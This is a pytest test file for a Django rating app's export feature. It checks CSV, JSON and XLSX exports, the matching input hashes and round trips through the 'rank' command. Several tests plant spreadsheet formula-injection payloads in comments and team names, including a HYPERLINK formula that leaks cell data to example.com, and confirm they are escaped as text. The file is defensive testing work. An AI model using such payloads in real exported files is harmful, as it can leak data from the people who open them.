"""Exports: each format opens, carries the input hash, and feeds ``manage.py rank`` as is."""

from __future__ import annotations

import csv
import io
import json
from dataclasses import asdict
from io import StringIO

import openpyxl
import pandas as pd
import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from django.urls import reverse

from annotate.models import Rating
from evaluation import exports, selectors
from evaluation.scoring import csv_text, rated_set_from, read_episodes, read_ratings
from evaluation.scoring.input_hash import input_hash
from tests.evaluation.test_leaderboard import rated_campaign

pytestmark = pytest.mark.django_db

HASH_HEADER = "X-Refscore-Input-Hash"


@pytest.fixture(autouse=True)
def _fast_passwords(settings):
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]


@pytest.fixture
def data():
    return rated_campaign(n_teams=3, n_tasks=2, n_episodes=3, seed=4, slug="exp")


def download(client, what: str, fmt: str):
    response = client.get(reverse("export-download", args=["exp", what, fmt]))
    assert response.status_code == 200, response.content[:300]
    return response


def test_ratings_csv_has_one_row_per_rating_with_answers_and_pseudonyms(staff_client, data):
    response = download(staff_client, "ratings", "csv")
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert len(rows) == Rating.objects.count() == 3 * 2 * 3 * 3
    required = {"task", "team", "episode", "rater", "score", "final_state", "clean", "motion"}
    required |= {"comment", "revision", "created_at", "updated_at"}
    assert required <= set(rows[0])
    assert not response.content.startswith(b"#")  # no comment line: rank reads it as is
    usernames = {rater.username for rater in data.raters}
    assert not usernames & {row["rater"] for row in rows}
    for row in rows:
        assert row["final_state"] == ("True" if int(row["score"]) >= 2 else "False")
    given = sorted(
        int(row["score"])
        for row in rows
        if (row["team"], row["task"], row["episode"]) == ("team1", "task2", "episode_0")
    )
    assert given == sorted(data.scores[("team1", "task2", "episode_0")])


def test_every_format_opens_and_carries_the_same_hash(staff_client, data):
    hashes = set()
    for what in exports.EXPORT_KINDS:
        csv_response = download(staff_client, what, "csv")
        frame = pd.read_csv(io.BytesIO(csv_response.content))
        hashes.add(csv_response[HASH_HEADER])

        document = json.loads(download(staff_client, what, "json").content)
        assert {"input_hash", "generated_at", "campaign", "rows"} <= set(document)
        assert document["campaign"] == "exp"
        assert len(document["rows"]) == len(frame)
        hashes.add(document["input_hash"])

        xlsx = download(staff_client, what, "xlsx")
        book = openpyxl.load_workbook(io.BytesIO(xlsx.content), read_only=True)
        assert book.sheetnames == [what, "meta"]
        sheet_rows = list(book[what].iter_rows(values_only=True))
        assert list(sheet_rows[0]) == list(frame.columns)
        assert len(sheet_rows) - 1 == len(frame)
        meta = dict(book["meta"].iter_rows(min_row=2, values_only=True))
        hashes.add(meta["input_hash"])
        assert meta["seed"] == data.campaign.seed
    # One hash for every file: the one the leaderboard of the same data carries.
    assert hashes == {selectors.campaign_leaderboard(campaign=data.campaign).input_hash}


def test_rankings_export_columns(staff_client, data):
    frame = pd.read_csv(io.BytesIO(download(staff_client, "rankings", "csv").content))
    per_task = ("", "_n3", "_n2", "_n1", "_n0", "_n_missing", "_n_total")
    assert list(frame.columns) == [
        "rank",
        "team",
        "final_score",
        "ci_low",
        "ci_high",
        "rank_probability",
        "n_ratings",
        "n_total",
        "coverage",
        *(f"{task}{end}" for task in ("task1", "task2") for end in per_task),
    ]
    assert sorted(frame["team"]) == ["team0", "team1", "team2"]
    assert (frame["ci_low"] <= frame["final_score"]).all()
    assert (frame["final_score"] <= frame["ci_high"]).all()
    assert frame["final_score"].is_monotonic_decreasing
    # Every clip has its three ratings: nothing missing, N_total = 3 episodes x 3 raters.
    for task in ("task1", "task2"):
        assert (frame[f"{task}_n_missing"] == 0).all()
        assert (frame[f"{task}_n_total"] == 9).all()
    assert (frame["coverage"] == 1.0).all()


def test_rankings_carry_the_counts_that_reproduce_each_task_score(staff_client, tmp_path):
    """team1 did not send task1/episode_2: its three ratings are missing and count 0."""
    skipped = rated_campaign(
        n_teams=2, n_tasks=2, n_episodes=3, seed=8, slug="skip", skip={(1, 0, 2)}
    )
    response = staff_client.get(reverse("export-download", args=["skip", "rankings", "csv"]))
    team1 = pd.read_csv(io.BytesIO(response.content)).set_index("team").loc["team1"]
    given = [
        score
        for (team, task, _), scores in skipped.scores.items()
        if (team, task) == ("team1", "task1")
        for score in scores
    ]
    counts = [int(team1[f"task1_n{k}"]) for k in (3, 2, 1, 0)]
    assert counts == [given.count(k) for k in (3, 2, 1, 0)]
    assert (team1["task1_n_missing"], team1["task1_n_total"]) == (3, 9)
    n3, n2, n1, _ = counts
    assert team1["task1"] == round((3 * n3 + 2 * n2 + n1) / 9, 4)
    assert (team1["n_ratings"], team1["n_total"]) == (15, 18)
    assert team1["coverage"] == round(15 / 18, 4)


def test_csv_rounds_for_people_and_json_keeps_full_precision(staff_client, data):
    board = selectors.campaign_leaderboard(campaign=data.campaign).board
    csv_rows = pd.read_csv(io.BytesIO(download(staff_client, "rankings", "csv").content))
    json_rows = json.loads(download(staff_client, "rankings", "json").content)["rows"]
    book = openpyxl.load_workbook(
        io.BytesIO(download(staff_client, "rankings", "xlsx").content), read_only=True
    )
    sheet = list(book["rankings"].iter_rows(values_only=True))
    for standing, csv_row, json_row, xlsx_row in zip(
        board.teams, csv_rows.to_dict("records"), json_rows, sheet[1:], strict=True
    ):
        for key in ("final_score", "ci_low", "ci_high", "rank_probability", "task1"):
            exact = getattr(standing, key) if key != "task1" else standing.tasks["task1"].score
            assert json_row[key] == exact
            assert csv_row[key] == round(exact, 4)
            assert xlsx_row[sheet[0].index(key)] == round(exact, 4)
    text = download(staff_client, "rankings", "csv").content.decode()
    assert all(
        len(cell.partition(".")[2]) <= 4 for line in text.splitlines() for cell in line.split(",")
    )


def test_rank_command_and_export_write_the_same_rankings(data, tmp_path):
    for what in ("ratings", "episodes", "rankings"):
        call_command(
            "export", "exp", what=what, output=str(tmp_path / f"{what}.csv"), stdout=StringIO()
        )
    call_command(
        "rank",
        ratings=str(tmp_path / "ratings.csv"),
        episodes=str(tmp_path / "episodes.csv"),
        output=str(tmp_path / "offline.csv"),
        seed=data.campaign.seed,
        stdout=StringIO(),
    )
    app = pd.read_csv(tmp_path / "rankings.csv")
    offline = pd.read_csv(tmp_path / "offline.csv")
    assert list(app.columns) == list(offline.columns)
    pd.testing.assert_frame_equal(app, offline, check_exact=True)
    assert (tmp_path / "rankings.csv").read_bytes() == (tmp_path / "offline.csv").read_bytes()


def test_exported_files_reproduce_the_leaderboard_and_its_hash(staff_client, data, tmp_path):
    ratings_path = tmp_path / "ratings.csv"
    episodes_path = tmp_path / "episodes.csv"
    ratings_response = download(staff_client, "ratings", "csv")
    ratings_path.write_bytes(ratings_response.content)
    episodes_path.write_bytes(download(staff_client, "episodes", "csv").content)

    # An auditor recomputes the hash from the two files alone.
    episodes = read_episodes(episodes_path)
    ratings = read_ratings(ratings_path, episodes=episodes)
    rated_set = rated_set_from(episodes)
    recomputed = input_hash(
        ratings=ratings,
        rated_set=rated_set,
        tasks=list(rated_set),
        teams=sorted(ratings["team"].unique()),
        parameters=asdict(selectors.ScoringParameters.for_campaign(campaign=data.campaign)),
    )
    assert recomputed == ratings_response[HASH_HEADER]

    output = tmp_path / "rankings.json"
    call_command(
        "rank",
        ratings=str(ratings_path),
        episodes=str(episodes_path),
        output=str(output),
        seed=data.campaign.seed,
        stdout=StringIO(),
    )
    offline = json.loads(output.read_text())
    exported = json.loads(download(staff_client, "rankings", "json").content)["rows"]
    assert offline == exported  # same scores, intervals and rank probabilities, exactly


def test_export_command_writes_files_and_prints_the_hash(data, tmp_path):
    out = StringIO()
    target = tmp_path / "out" / "ratings.xlsx"
    call_command("export", "exp", what="ratings", format="xlsx", output=str(target), stdout=out)
    expected = exports.campaign_export(campaign=data.campaign, what="ratings", fmt="csv")
    assert expected.input_hash in out.getvalue()
    book = openpyxl.load_workbook(target, read_only=True)
    assert len(list(book["ratings"].iter_rows())) == 1 + Rating.objects.count()

    out, err = StringIO(), StringIO()
    call_command("export", "exp", what="episodes", format="csv", stdout=out, stderr=err)
    assert out.getvalue().splitlines()[0] == "task,episode"
    assert len(out.getvalue().splitlines()) == 1 + 2 * 3
    assert expected.input_hash in err.getvalue()


def test_export_command_then_rank_command_round_trip(data, tmp_path):
    for what in ("ratings", "episodes"):
        call_command(
            "export", "exp", what=what, output=str(tmp_path / f"{what}.csv"), stdout=StringIO()
        )
    call_command(
        "export",
        "exp",
        what="rankings",
        format="json",
        output=str(tmp_path / "app.json"),
        stdout=StringIO(),
    )
    call_command(
        "rank",
        ratings=str(tmp_path / "ratings.csv"),
        episodes=str(tmp_path / "episodes.csv"),
        output=str(tmp_path / "offline.json"),
        seed=data.campaign.seed,
        stdout=StringIO(),
    )
    app = json.loads((tmp_path / "app.json").read_text())
    assert app["rows"] == json.loads((tmp_path / "offline.json").read_text())


def test_export_command_refuses_bad_requests(data):
    with pytest.raises(CommandError, match="no campaign 'nope'"):
        call_command("export", "nope", stdout=StringIO())
    with pytest.raises(CommandError, match="--output"):
        call_command("export", "exp", format="xlsx", stdout=StringIO())
    with pytest.raises(CommandError, match="from 1 to 20000, not 100000000"):
        call_command("export", "exp", bootstrap=100_000_000, stdout=StringIO())


def test_unknown_export_is_a_clear_error(staff_client, data):
    response = staff_client.get(reverse("export-download", args=["exp", "secrets", "csv"]))
    assert response.status_code == 400
    assert b"secrets" in response.content
    with pytest.raises(selectors.ScoringRequestError, match="format 'pdf'"):
        exports.campaign_export(campaign=data.campaign, what="ratings", fmt="pdf")


def test_comment_that_looks_like_a_formula_stays_text_in_xlsx(staff_client, data):
    Rating.objects.filter(pk=Rating.objects.order_by("pk").first().pk).update(
        comment='=HYPERLINK("http://example.com","x")'
    )
    book = openpyxl.load_workbook(
        io.BytesIO(download(staff_client, "ratings", "xlsx").content), read_only=False
    )
    sheet = book["ratings"]
    header = [cell.value for cell in sheet[1]]
    comments = [row[header.index("comment")] for row in sheet.iter_rows(min_row=2)]
    formula_cells = [cell for cell in comments if cell.value and str(cell.value).startswith("=")]
    assert len(formula_cells) == 1
    assert formula_cells[0].data_type == "s"


def test_comments_with_commas_and_newlines_survive_csv(staff_client, data, tmp_path):
    Rating.objects.filter(pk=Rating.objects.order_by("pk").first().pk).update(
        comment='banana bends, then "melts"\nsecond line'
    )
    path = tmp_path / "ratings.csv"
    path.write_bytes(download(staff_client, "ratings", "csv").content)
    frame = pd.read_csv(path)
    assert 'banana bends, then "melts"\nsecond line' in set(frame["comment"].dropna())
    assert len(read_ratings(path)) == Rating.objects.count()


FORMULAS = [
    '=HYPERLINK("http://example.com/?leak="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


def test_csv_cells_a_spreadsheet_would_run_are_marked_as_text(staff_client, data, tmp_path):
    ratings = list(Rating.objects.order_by("pk")[: len(FORMULAS)])
    for rating, formula in zip(ratings, FORMULAS, strict=True):
        Rating.objects.filter(pk=rating.pk).update(comment=formula)
    # A team named like a formula, too: the keys rank reads are marked the same way.
    data.teams[2].name = "=team2"
    data.teams[2].save()
    raw = download(staff_client, "ratings", "csv").content.decode()
    rows = list(csv.DictReader(io.StringIO(raw)))
    comments = [row["comment"] for row in rows if row["comment"]]
    assert sorted(comments) == sorted("'" + formula for formula in FORMULAS)
    assert {row["team"] for row in rows} == {"team0", "team1", "'=team2"}
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), row
    # pandas reads the file as it is, and scores stay numbers.
    frame = pd.read_csv(io.StringIO(raw))
    assert frame["score"].dtype == "int64"
    assert "'=team2" in set(frame["team"])
    rankings = download(staff_client, "rankings", "csv").content.decode()
    assert ",'=team2," in rankings


def test_formula_marks_survive_the_round_trip_to_rank(staff_client, data, tmp_path):
    Rating.objects.filter(pk=Rating.objects.order_by("pk").first().pk).update(comment="-1 jitter")
    data.teams[0].name = "@team0"
    data.teams[0].save()
    data.teams[1].name = "'-team1"  # already starts with the mark: kept exactly too
    data.teams[1].save()
    ratings_response = download(staff_client, "ratings", "csv")
    (tmp_path / "ratings.csv").write_bytes(ratings_response.content)
    (tmp_path / "episodes.csv").write_bytes(download(staff_client, "episodes", "csv").content)
    episodes = read_episodes(tmp_path / "episodes.csv")
    ratings = read_ratings(tmp_path / "ratings.csv", episodes=episodes)
    assert set(ratings["team"]) == {"@team0", "'-team1", "team2"}
    rated_set = rated_set_from(episodes)
    recomputed = input_hash(
        ratings=ratings,
        rated_set=rated_set,
        tasks=list(rated_set),
        teams=sorted(ratings["team"].unique()),
        parameters=asdict(selectors.ScoringParameters.for_campaign(campaign=data.campaign)),
    )
    assert recomputed == ratings_response[HASH_HEADER]
    call_command(
        "rank",
        ratings=str(tmp_path / "ratings.csv"),
        episodes=str(tmp_path / "episodes.csv"),
        output=str(tmp_path / "offline.json"),
        seed=data.campaign.seed,
        stdout=StringIO(),
    )
    exported = json.loads(download(staff_client, "rankings", "json").content)["rows"]
    assert json.loads((tmp_path / "offline.json").read_text()) == exported
    assert {row["team"] for row in exported} == {"@team0", "'-team1", "team2"}


def test_negative_numbers_stay_numbers_and_only_text_is_marked():
    table = pd.DataFrame(
        {"team": ["-A", "B"], "delta": [-0.123456, 1.5], "count": [-3, 2], "note": ["-3", None]}
    )
    frame = pd.read_csv(io.StringIO(csv_text(table)))
    assert frame["team"].tolist() == ["'-A", "B"]
    assert frame["delta"].tolist() == [-0.1235, 1.5]
    assert frame["count"].tolist() == [-3, 2]
    assert frame["note"].tolist()[0] == "'-3"


def test_control_characters_in_a_comment_do_not_break_the_xlsx(staff_client, data):
    comment = "arm \x1b[31mred\x1b[0m, bell\x07, tab\tvertical\x0bend\nline two"
    Rating.objects.filter(pk=Rating.objects.order_by("pk").first().pk).update(comment=comment)
    book = openpyxl.load_workbook(io.BytesIO(download(staff_client, "ratings", "xlsx").content))
    sheet = book["ratings"]
    header = [cell.value for cell in sheet[1]]
    comments = [row[header.index("comment")].value for row in sheet.iter_rows(min_row=2)]
    written = [value for value in comments if value]
    assert written == ["arm \ufffd[31mred\ufffd[0m, bell\ufffd, tab\tvertical\ufffdend\nline two"]
    # CSV and JSON keep the comment as it was given.
    rows = json.loads(download(staff_client, "ratings", "json").content)["rows"]
    assert comment in {row["comment"] for row in rows}


def test_ratings_export_carries_time_on_page_and_watched_fractions(staff_client, data):
    first = Rating.objects.order_by("pk").first()
    Rating.objects.filter(pk=first.pk).update(
        time_on_page_s=41.23456,
        server_time_s=43.0004,
        watched_reference=1.0,
        watched_generated=0.666666,
    )
    fields = ("time_on_page_s", "server_time_s", "watched_reference", "watched_generated")
    rows = json.loads(download(staff_client, "ratings", "json").content)["rows"]
    assert set(fields) <= set(rows[0])
    assert {tuple(row[field] for field in fields) for row in rows} == {
        (41.23456, 43.0004, 1.0, 0.666666),
        (0.0, None, 0.0, 0.0),  # no server time: stored before it was measured
    }
    frame = pd.read_csv(io.BytesIO(download(staff_client, "ratings", "csv").content))
    shown = frame.loc[frame["time_on_page_s"] > 0, list(fields)].to_dict("records")
    assert shown == [
        {
            "time_on_page_s": 41.2346,
            "server_time_s": 43.0004,
            "watched_reference": 1.0,
            "watched_generated": 0.6667,
        }
    ]
    assert frame["server_time_s"].isna().sum() == len(frame) - 1
